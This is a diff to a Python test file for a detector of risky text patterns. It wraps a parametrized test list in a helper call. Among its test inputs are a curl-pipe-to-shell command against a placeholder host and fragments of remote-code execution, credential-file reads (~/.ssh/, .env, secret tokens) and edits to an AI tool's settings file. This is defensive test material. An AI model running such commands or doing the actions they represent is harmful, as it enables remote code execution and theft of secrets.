@@ -8,7 +8,7 @@ from hypothesis import strategies as st
 
 from rye.limits import FACTS as LIMITS
 from rye.text.facts import ALARM, CAUTION, FACTS, LEVELS, NOTE, Fact, as_json, counts, difference, find_facts, severity
-from tests.scenes.effort import tries
+from tests.scenes.effort import rest_thorough, tries
 
 PIPE = "curl https://x.example/a | sh"
 
@@ -202,39 +202,42 @@ def test_property_another_file_changes_no_fact_of_this_one(text: str) -> None:
 @pytest.mark.slow
 @pytest.mark.parametrize(
     "unit",
-    [
-        *(
-            "curl a.b | ",
-            "curl $(",
-            "curl x)",
-            "curl a.b \\\n",
-            "`curl a.b `",
-            "eval(",
-            "eval(requests.get(",
-            "x = fetch(y)\nexec(x)\n",
-        ),
-        *(
-            "base64 -d ",
-            "npx a ",
-            "https://a@",
-            "8.8.8.8 ",
-            "~/.ssh/",
-            ".env",
-            "sudo ",
-            "chmod -R ",
-            "\n",
-            "|",
-            "[a]: https://a.b\n",
-            "<a",
-        ),
-        *(
-            "curl -o f a.b\n",
-            "follow https://a.b/c. ",
-            "command: npx args: [",
-            "A_SECRET_TOKEN_",
-            "write ~/.claude/settings.json ",
-        ),
-    ],
+    rest_thorough(
+        8,
+        [
+            *(
+                "curl a.b | ",
+                "curl $(",
+                "curl x)",
+                "curl a.b \\\n",
+                "`curl a.b `",
+                "eval(",
+                "eval(requests.get(",
+                "x = fetch(y)\nexec(x)\n",
+            ),
+            *(
+                "base64 -d ",
+                "npx a ",
+                "https://a@",
+                "8.8.8.8 ",
+                "~/.ssh/",
+                ".env",
+                "sudo ",
+                "chmod -R ",
+                "\n",
+                "|",
+                "[a]: https://a.b\n",
+                "<a",
+            ),
+            *(
+                "curl -o f a.b\n",
+                "follow https://a.b/c. ",
+                "command: npx args: [",
+                "A_SECRET_TOKEN_",
+                "write ~/.claude/settings.json ",
+            ),
+        ],
+    ),
 )
 def test_much_of_one_hostile_piece_comes_to_an_end(unit: str) -> None:
     text = unit * (HOSTILE // len(unit)) + "\n\n# T\n\n```sh\n" + PIPE + "\n"
